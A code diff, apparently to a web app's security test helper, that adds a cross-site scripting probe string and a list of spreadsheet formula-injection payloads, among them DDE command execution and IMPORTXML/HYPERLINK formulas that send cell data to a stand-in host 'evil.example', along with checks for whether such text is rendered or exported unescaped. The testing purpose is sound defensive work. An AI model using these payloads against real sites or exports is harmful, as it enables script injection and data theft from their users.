@@ -6,6 +6,9 @@ interface Shown {
   isWrong(text: string, headers: Headers): boolean;
 }
 
+/** Stands where people write: names, descriptions, titles, labels and remarks. */
+export const hostileText = `<script>alert(1)</script><img src=x onerror=alert(2)>`;
+
 /** A script of a stranger that a browser would run. */
 const runs = (text: string, headers: Headers): boolean =>
   headers.get("content-type")?.includes("html") === true && /<script>alert\(1\)|<img src=x onerror/.test(text);
@@ -14,10 +17,35 @@ const runs = (text: string, headers: Headers): boolean =>
 const isPage = (_text: string, headers: Headers): boolean =>
   headers.get("content-type")?.includes("html") !== false || headers.get("x-content-type-options") !== "nosniff";
 
-const hasFormula = (text: string): boolean => /(^|,)"?[=+\-@]/m.test(text);
+/** Texts that a spreadsheet would compute, or send somewhere. */
+export const formulas = [
+  "=1+1",
+  "+1+1",
+  "-1+1",
+  "@SUM(1)",
+  "=cmd|'/c calc'!A1",
+  '=HYPERLINK("http://evil.example","x")',
+  '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
+  "\t=1+1",
+  "-2+3+cmd|' /C calc'!A0",
+  "=1+1,x",
+  '"=1+1"',
+  "=DDE(1)",
+];
 
-export function shownTexts({ graph, run }: Known): Shown[] {
-  const pages = ["/", `/graphs/${graph}`, `/graphs/${graph}/versions`, `/runs/${run}`, `/runs/${run}/changes`, "/runs"];
+/** Whether a cell begins with what makes it a formula. */
+export const hasFormula = (text: string): boolean => /(^|,)"?[=+\-@\t\r]/m.test(text);
+
+export function shownTexts({ graph, run, pages: published }: Known): Shown[] {
+  const pages = [
+    ...published,
+    "/",
+    `/graphs/${graph}`,
+    `/graphs/${graph}/versions`,
+    `/runs/${run}`,
+    `/runs/${run}/changes`,
+    "/runs",
+  ];
   const told = [
     `/graphs/${graph}`,
     `/graphs/${graph}/versions`,
